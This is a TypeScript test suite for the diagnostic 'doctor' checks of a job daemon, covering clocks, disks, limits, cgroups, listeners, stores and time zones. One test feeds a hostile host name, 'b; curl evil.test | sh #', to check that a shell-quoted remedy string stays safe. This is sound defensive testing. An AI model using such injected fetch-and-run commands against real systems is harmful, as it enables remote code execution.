import assert from "node:assert/strict";
import { once } from "node:events";
import { existsSync, readFileSync } from "node:fs";
import { type AddressInfo, createServer } from "node:net";
import test from "node:test";
import { checkCgroup } from "../../../src/maintenance/doctor/cgroup_check.ts";
import { checkClock, type ClockFacts } from "../../../src/maintenance/doctor/clock_check.ts";
import { reach } from "../../../src/maintenance/doctor/connect.ts";
import { checkDaemon, checkUnits } from "../../../src/maintenance/doctor/daemon_check.ts";
import { checkDisks, readDisks } from "../../../src/maintenance/doctor/disk_check.ts";
import type { DaemonFacts, NodeFacts } from "../../../src/maintenance/doctor/facts.ts";
import { type Finding, findingsOf, SUBJECTS } from "../../../src/maintenance/doctor/finding.ts";
import { checkFsync, timeFsync } from "../../../src/maintenance/doctor/fsync_check.ts";
import { checkLimits, limitOf } from "../../../src/maintenance/doctor/limits_check.ts";
import { checkListeners } from "../../../src/maintenance/doctor/listeners_check.ts";
import { checkNodes } from "../../../src/maintenance/doctor/nodes_check.ts";
import { checkReach } from "../../../src/maintenance/doctor/reach_check.ts";
import { inOrder, runChecks } from "../../../src/maintenance/doctor/run_checks.ts";
import { checkStore, type StoreFacts } from "../../../src/maintenance/doctor/store_check.ts";
import { checkZones, readZones } from "../../../src/maintenance/doctor/zones_check.ts";
import { systemClock } from "../../../src/platform/clock.ts";
import { withTempDir } from "../../support/temp_dir.ts";
import { SimClock } from "../../support/worlds/sim_clock.ts";

const NODE: NodeFacts = {
  ...{ id: "a", state: "live", host: "alpha", pid: 1, version: "1.0.0" },
  ...{ tzVersion: "tz 2026a", skewMs: null },
};
const DAEMON: DaemonFacts = {
  ...{ node: "a", version: "1.0.0", latencyMs: 2, isDraining: false },
  ...{ storeType: "sqlite", storeLocation: "/x.db", storeProblem: null, reloadProblem: null },
  listenerProblems: [],
  ...{ workers: 4, missing: 0, silent: 0 },
  ...{ disabled: [], nodes: [NODE] },
};
const CLOCK: ClockFacts = {
  kernel: { isSynchronized: true, errorMs: 3 },
  ...{ services: ["chrony"], isRecorded: null, counter: "tsc", jumpMs: 0.4 },
};
const MIB = 2 ** 20;
const GIB = 2 ** 30;

/** Findings as `level text`, without their remedies; each but "ok" must have one. */
function shown(findings: readonly Finding[]): string[] {
  for (const { level, text, remedy } of findings) {
    assert.equal(remedy === null, level === "ok", text);
    assert.ok(!text.endsWith("."), text);
  }
  return findings.map(({ level, text }) => `${level} ${text}`);
}

/** The only finding. */
function only(findings: readonly Finding[]): string {
  const texts = shown(findings);
  assert.equal(texts.length, 1, texts.join("\n"));
  return texts[0]!;
}

test("docs/install.md lists the subjects in the order in which they are shown", () => {
  const page = readFileSync(new URL("../../../docs/install.md", import.meta.url), "utf8");
  const table = page.slice(page.indexOf("| subject | it is a problem if |"));
  const rows = [...table.matchAll(/^\| ([a-z]+) \|/gm)].map(([, name]) => name);
  assert.deepEqual(rows.slice(1), [...SUBJECTS]);
});

test("checkClock() warns about a clock that is not synchronized, jumps or may be wrong", () => {
  assert.match(only(checkClock(CLOCK)), /^ok synchronized \(chrony\), source tsc$/);
  const kernel = { isSynchronized: false, errorMs: 16_000 };
  assert.match(
    only(checkClock({ ...CLOCK, kernel })),
    /^warning it is not synchronized: chrony runs/,
  );
  const wrong = { isSynchronized: true, errorMs: 1_001 };
  assert.match(only(checkClock({ ...CLOCK, kernel: wrong })), /^warning it may be wrong by 1s/);
  const [jump] = shown(checkClock({ ...CLOCK, jumpMs: -50 }));
  assert.match(jump!, /^warning it was set back by 50ms/);
  assert.match(only(checkClock({ ...CLOCK, jumpMs: 49 })), /^ok/);
  const [slow] = shown(checkClock({ ...CLOCK, counter: "jiffies" }));
  assert.match(slow!, /^note the kernel uses the slow clock source jiffies/);
});

test("checkClock() uses the record of a time service where it cannot ask the kernel", () => {
  const unknown = { ...CLOCK, kernel: null, services: [] };
  assert.match(only(checkClock(unknown)), /^note not checked/);
  const services = ["systemd-timesyncd"];
  assert.match(only(checkClock({ ...unknown, services, isRecorded: true })), /^ok synchronized/);
  assert.match(only(checkClock({ ...unknown, services, isRecorded: false })), /^warning/);
});

test("checkDisks() warns about little space and few inodes, each at its limit", () => {
  const disk = {
    ...{ what: "the store", path: "/d", remedy: "mend" },
    ...{ freeBytes: 30 * GIB, totalBytes: 1_000 * GIB, freeInodes: 500, totalInodes: 1_000 },
  };
  assert.match(only(checkDisks([disk])), /^ok 30\.0 GiB \(3\.0 %\) free for the store in "\/d"/);
  assert.match(only(checkDisks([{ ...disk, freeBytes: 19 * GIB }])), /^warning 19\.0 GiB/);
  const small = { ...disk, totalBytes: GIB };
  assert.match(only(checkDisks([{ ...small, freeBytes: 512 * MIB }])), /^ok/);
  assert.match(only(checkDisks([{ ...small, freeBytes: 511 * MIB }])), /^warning 511 MiB/);
  assert.match(only(checkDisks([{ ...small, freeBytes: 63 * MIB }])), /^error 63 MiB/);
  const inodes = (freeInodes: number) => shown(checkDisks([{ ...disk, freeInodes }])).at(-1)!;
  assert.match(inodes(50), /^ok/);
  assert.match(inodes(49), /^warning 4\.9 % of the inodes/);
  assert.match(inodes(9), /^error 0\.9 % of the inodes/);
  assert.match(only(checkDisks([{ ...disk, freeInodes: 0, totalInodes: 0 }])), /^ok/);
});

test("readDisks() reports folders of one file system once, also if they do not exist yet", async () => {
  await withTempDir({}, async ({ path }) => {
    const folders = ["a/b/c", "d"].map((name) => ({
      ...{ what: name, path: `${path}/${name}`, remedy: "mend" },
    }));
    const disks = await readDisks(folders);
    assert.deepEqual(disks.map(({ what }) => what), ["a/b/c"]);
    assert.ok(disks[0]!.totalBytes > 0);
  });
});

test("checkFsync() judges median and worst, unless commits do not wait for the disk", () => {
  const judge = (times: number[], isWaitedFor = true) =>
    only(checkFsync({ folder: "/d", times, isWaitedFor }));
  assert.match(judge([1, 2, 30]), /^ok .* takes 2\.0 ms \(median of 3\), 30 ms at worst/);
  assert.match(judge([20, 20, 30]), /^note/);
  assert.match(judge([100, 100, 120]), /^warning/);
  assert.match(judge([1, 1, 500]), /^warning/);
  assert.match(judge([100, 100, 500], false), /^ok/);
});

test("timeFsync() leaves nothing behind", async () => {
  await withTempDir({}, async ({ path }) => {
    const times = await timeFsync(path, systemClock, "1");
    assert.ok(times.length >= 1 && times.every((ms) => ms > 0));
    assert.ok(!existsSync(`${path}/.jobctl-doctor-1`));
    await assert.rejects(timeFsync(`${path}/none`, systemClock, "1"), /ENOENT/);
  });
});

test("checkLimits() warns about limits below what the workers may need", () => {
  const limits = {
    ...{ who: "process 7", workers: 4, isService: true },
    files: { soft: 320, hard: 4_096 },
    processes: { soft: 128, hard: 128 },
    ...{ pidMax: 8_192, inotifyInstances: 16, inotifyWatches: 1_024 },
  };
  assert.match(only(checkLimits(limits)), /^ok/);
  const low = {
    ...limits,
    files: { soft: 319, hard: 4_096 },
    processes: { soft: 127, hard: 128 },
    ...{ pidMax: 8_191, inotifyInstances: 15, inotifyWatches: 1_023 },
  };
  const found = checkLimits(low);
  assert.deepEqual(shown(found), [
    "warning process 7 may open 319 files; 4 workers may need 320",
    "warning the user of process 7 may have 127 processes and threads; 4 workers may need 128",
    "warning kernel.pid_max is 8191",
    "warning fs.inotify.max_user_instances is 15",
    "warning fs.inotify.max_user_watches is 1023",
  ]);
  assert.match(found[0]!.remedy!, /LimitNOFILE=/);
  const shell = checkLimits({ ...low, who: "this shell", isService: false });
  assert.equal(shell[0]!.remedy, "ulimit -S -n 320");
  assert.match(only(checkLimits({ ...limits, files: null })), /^note not checked/);
});

test("limitOf() reads a line of /proc/PID/limits", () => {
  const text =
    "Limit     Soft   Hard   Units\nMax open files            1024      unlimited  files\n";
  assert.deepEqual(limitOf(text, "Max open files"), { soft: 1_024, hard: Infinity });
  assert.equal(limitOf(text, "Max processes"), null);
});

test("checkCgroup() warns about little memory and few tasks, and says what commands lack", () => {
  const group = {
    ...{ root: "/sys/fs/cgroup", path: "/sys/fs/cgroup/x", controllers: ["cpu", "memory"] },
    ...{ isUsable: true, canBound: true, isService: true },
    ...{ memoryMax: null, pidsMax: 100, pids: 80 },
  };
  assert.match(only(checkCgroup(group)), /^ok each command has a group/);
  const [tasks, memory] = [{ ...group, pids: 81 }, { ...group, memoryMax: 255 * MIB }]
    .map((facts) => shown(checkCgroup(facts))[0]!);
  assert.match(tasks!, /^warning .* 81 of 100 tasks/);
  assert.match(memory!, /^warning .* 255 MiB of memory/);
  const without = { ...group, isUsable: false };
  assert.match(only(checkCgroup({ ...without, root: null, path: null })), /^ok .*2 is not there/);
  assert.match(only(checkCgroup({ ...without, path: null })), /^ok .*is not visible here/);
  assert.match(only(checkCgroup(without)), /^note not delegated .*they cannot be frozen/);
  assert.match(checkCgroup(without)[0]!.remedy!, /install-service/);
  assert.match(checkCgroup({ ...without, isService: false })[0]!.remedy!, /Delegate=memory/);
  const unbound = { ...group, canBound: false };
  assert.match(only(checkCgroup(unbound)), /^note .*watched: the daemon has no group of its own/);
  assert.match(only(checkCgroup({ ...unbound, controllers: ["cpu"] })), /memory is not delegated/);
});

test("checkNodes() warns about mixed versions and clocks of nodes that run", () => {
  const judge = (nodes: readonly NodeFacts[], version = "1.0.0") =>
    shown(checkNodes({ daemon: { ...DAEMON, nodes }, version, restart: "restart it" }));
  assert.deepEqual(judge([NODE]), ["ok 1 node runs version 1.0.0"]);
  const old = { ...NODE, id: "b", version: "0.9.0" };
  assert.deepEqual(judge([NODE, old]), [
    "warning 2 versions run on the store: 1.0.0 (a), 0.9.0 (b)",
  ]);
  assert.deepEqual(judge([NODE, { ...old, state: "lost" }, { ...old, state: "left" }]), [
    "ok 1 node runs version 1.0.0",
  ]);
  assert.deepEqual(judge([NODE], "1.1.0"), [
    "warning the daemon runs version 1.0.0, this program is 1.1.0",
  ]);
  assert.deepEqual(judge([NODE, { ...NODE, id: "b", state: "skewed", skewMs: -2_000 }]), [
    "warning the clock of node b is 2s behind: it claims nothing",
  ]);
  assert.match(
    judge([NODE, { ...NODE, id: "b", tzVersion: "tz 2020a" }])[0]!,
    /^note .*2020a \(b\)/,
  );
});

test("checkNodes() names a host so that a shell runs nothing of it", () => {
  const host = "b; curl evil.test | sh #";
  const nodes = [NODE, { ...NODE, id: "b", state: "skewed", skewMs: -2_000, host }];
  const [found] = checkNodes({
    ...{ daemon: { ...DAEMON, nodes }, version: "1.0.0", restart: "restart" },
  });
  assert.equal(found!.remedy, "on 'b; curl evil.test | sh #': sudo chronyc makestep");
});

test("checkDaemon() reports reloads and jobs that failed", () => {
  const judge = (daemon: Partial<DaemonFacts>) => {
    const found = { type: "running", daemon: { ...DAEMON, ...daemon } } as const;
    return only(checkDaemon({ found, isService: false }));
  };
  assert.match(judge({}), /^ok node a runs version 1\.0\.0/);
  assert.match(judge({ workers: 0 }), /^warning node a has 0 workers: it runs nothing/);
  assert.match(judge({ missing: 2 }), /^warning attempts that run without a process: 2; /);
  assert.match(judge({ silent: 1 }), /^warning supervisors of commands that do not respond: 1/);
  assert.match(judge({ reloadProblem: "x" }), /^warning the last reload had problems: x/);
  assert.match(judge({ disabled: ["one", "two"] }), /^warning jobs that do not load: one, two/);
  const listenerProblems = ["Cannot listen on a:1: the address is in use"];
  assert.match(judge({ listenerProblems }), /^warning Cannot listen on a:1: .*in use\. Jobs run/);
  assert.match(judge({ isDraining: true }), /^note node a is stopping/);
  const why = '"x.db" was removed';
  const unknown = (isFailing: boolean) =>
    only(checkDaemon({ found: { type: "unknown", why, isFailing }, isService: false }));
  assert.match(unknown(true), /^error "x\.db" was removed/);
  assert.match(unknown(false), /^note not checked: "x\.db" was removed/);
  const [none] = checkDaemon({ found: { type: "none" }, isService: true });
  assert.equal(none!.remedy, "sudo systemctl start jobctl");
});

test("checkStore() reports what the daemon says about its store", () => {
  const facts: StoreFacts = {
    ...{ url: "sqlite:/x.db", configOption: "", daemon: DAEMON, file: null, servers: [] },
    isMemory: false,
  };
  const judge = (daemon: Partial<DaemonFacts>) =>
    only(checkStore({ ...facts, daemon: { ...DAEMON, ...daemon } }));
  assert.match(judge({}), /^ok sqlite \/x\.db answers the daemon, in 2 ms/);
  assert.match(judge({ storeProblem: "disk full" }), /^error disk full/);
  assert.match(judge({ latencyMs: 250 }), /^warning the daemon took 250 ms/);
  assert.match(judge({ storeType: "memory" }), /^note it is in memory/);
});

test("checkStore() reports servers that do not answer, or are others", () => {
  const judge = (reached: object, isRight = true) =>
    only(checkStore({
      ...{ url: "valkey://h:1", configOption: "", daemon: null, file: null, isMemory: false },
      servers: [{ host: "h", port: 1, isRight, reached: reached as never }],
    }));
  const connected = { type: "connected", ms: 3, answer: "" };
  assert.match(judge(connected), /^ok h:1 answers in 3 ms/);
  assert.match(judge({ ...connected, ms: 250 }), /^warning h:1 took 250 ms/);
  assert.match(judge(connected, false), /^error h:1 is not a server of valkey:/);
  const failed = { type: "failed", stage: "connect", why: "connection refused" };
  assert.match(judge(failed, false), /^error cannot reach h:1: connection refused/);
});

test("checkListeners() warns about ports of others, plain TCP and certificates, at their limits", () => {
  const DAY = 86_400_000;
  const facts = {
    ...{
      ports: new Map([[1, 12_345]]),
      isRunning: false,
      certificates: [],
      nowMs: 0,
      restart: "restart",
    },
    hasLogin: true,
    listeners: [{ name: "gRPC" as const, host: "127.0.0.1", port: 2, isTls: false }],
  };
  assert.match(only(checkListeners(facts)), /^ok gRPC 127\.0\.0\.1:2/);
  const [mine] = facts.listeners;
  const listen = (given: object, rest: object = {}) =>
    only(checkListeners({ ...facts, ...rest, listeners: [{ ...mine!, ...given }] }));
  assert.match(listen({ port: 1 }), /^warning gRPC: a process of user 12345 listens on port 1/);
  assert.match(listen({ port: 1 }, { isRunning: true }), /^ok/);
  assert.match(listen({ host: "0.0.0.0" }), /^warning gRPC: other machines .* without TLS/);
  assert.match(listen({ host: "0.0.0.0", isTls: true }), /^ok/);
  const http = { name: "HTTP", host: "::" };
  assert.match(listen(http), /^warning HTTP: other machines .*\[::\]:2 without TLS: tokens/);
  assert.match(listen(http, { hasLogin: false }), /^note HTTP: other machines .*\[::\]:2/);
  assert.match(listen({ ...http, isTls: true }), /^ok/);
  const until = (ms: number) => {
    const certificate = { path: "/c.pem", until: ms, problem: null, isForbidden: false };
    return only(checkListeners({ ...facts, certificates: [certificate] }));
  };
  assert.match(until(0), /^error the certificate "\/c\.pem" expired/);
  assert.match(until(14 * DAY - 1), /^warning .* expires in 13d/);
  assert.match(until(14 * DAY), /^note/);
  assert.match(until(30 * DAY), /^ok/);
});

test("reach() connects to no address that is not public, if it may not", async () => {
  let connections = 0;
  const server = createServer((socket) => {
    connections++;
    socket.destroy();
  }).listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = server.address() as AddressInfo;
  const endpoint = { host: "localhost", port, tls: null, isPublic: true, dialog: null };
  const reached = await reach(endpoint, { clock: systemClock, timeoutMs: 5_000 });
  assert.equal(reached.type, "private");
  assert.equal(connections, 0);
  const [found] = checkReach([{ name: "notices.ops", endpoint, reached }]);
  assert.match(found!.text, /^notices\.ops: localhost has the address .*not public/);
  assert.equal(found!.remedy, "set allow_private = true in [notices.ops]");
  server.close();
});

test("checkUnits() shows drift with its remedy", () => {
  assert.match(only(checkUnits([])), /^ok no service is installed/);
  const unit = { path: "/u", problem: null, level: "warning", remedy: null } as const;
  assert.match(only(checkUnits([unit])), /^ok "\/u" is what this version writes/);
  const drift = { ...unit, problem: "is not what this version writes", remedy: "mend" };
  assert.match(only(checkUnits([drift])), /^warning "\/u" is not what this version writes/);
});

/** A zone file of version 2 with changes at seconds to offsets. */
function zoneFile(changes: readonly (readonly [number, number])[], footer = ""): Buffer {
  const header = (times: number, types: number) => {
    const bytes = Buffer.alloc(44);
    bytes.write("TZif2");
    bytes.writeUInt32BE(times, 32);
    bytes.writeUInt32BE(types, 36);
    return bytes;
  };
  const types = [0, ...changes.map(([, offset]) => offset)].map((offset) => {
    const type = Buffer.alloc(6);
    type.writeInt32BE(offset);
    return type;
  });
  const times = changes.map(([at]) => {
    const time = Buffer.alloc(8);
    time.writeBigInt64BE(BigInt(at));
    return time;
  });
  return Buffer.concat([
    ...[header(0, 0), header(changes.length, types.length), ...times],
    ...[Buffer.from(changes.map((_, index) => index + 1)), ...types, Buffer.from(`\n${footer}\n`)],
  ]);
}

test("checkZones() warns where host and program differ, from the first difference on", async () => {
  const nowMs = Date.UTC(2026, 0, 1);
  const change = Date.UTC(2026, 5, 1) / 1_000;
  const files = { "Asia/Tokyo": zoneFile([[0, 32_400], [change, 36_000]]), "tzdata.zi": "" };
  await withTempDir(files, ({ path, write }) => {
    const judge = () => shown(checkZones(readZones(["Asia/Tokyo"], nowMs, path)));
    assert.match(
      judge()[0]!,
      /^warning Asia\/Tokyo is UTC\+9 here and UTC\+10 on the host from 2026-06-01 on/,
    );
    write("Asia/Tokyo", zoneFile([[0, 32_400]]));
    write("tzdata.zi", "# version 2025b\n");
    assert.match(judge()[0]!, /^ok .* the host 2025b; same times in 1 zone/);
    write("tzdata.zi", "# version 2024a\n");
    assert.match(judge()[0]!, /^note the host's database is of 2024/);
    write("tzdata.zi", "# version 2025b\n");
    // After its list, the file has a rule, which is not compared.
    write("Asia/Tokyo", zoneFile([[0, 36_000]], "A-9B,M3.2.0,M11.1.0"));
    assert.match(judge()[0]!, /^ok/);
    write("Asia/Tokyo", "TZif2 and then nothing");
    assert.match(judge()[0]!, /^ok/);
  });
  await withTempDir({}, ({ path }) => {
    const found = only(checkZones(readZones(["Asia/Tokyo"], nowMs, path)));
    assert.match(found, /^ok .* the host has no database/);
  });
});

test("runChecks() replaces what fails or takes too long by why it was not checked", async () => {
  const clock = new SimClock();
  const { ok } = findingsOf("disk");
  const running = runChecks([
    { subject: "disk", run: () => [ok("fine")] },
    { subject: "clock", run: () => Promise.reject(new Error("no such thing")) },
    { subject: "reach", run: () => new Promise(() => {}) },
  ], { clock, deadlineMs: 100 });
  await clock.advance(100);
  const findings = await running;
  assert.deepEqual(findings.map(({ subject, text }) => `${subject} ${text}`), [
    "disk fine",
    "clock not checked: no such thing",
    "reach not checked: it took more than 100 ms",
  ]);
});

test("inOrder() sorts by subject, then the worst first", () => {
  const [clock, disk] = [findingsOf("clock"), findingsOf("disk")];
  const sorted = inOrder([disk.ok("d"), clock.note("c"), clock.error("a", null), disk.note("b")]);
  assert.deepEqual(sorted.map(({ text }) => text), ["a", "c", "b", "d"]);
  assert.equal(new Set(SUBJECTS).size, SUBJECTS.length);
});
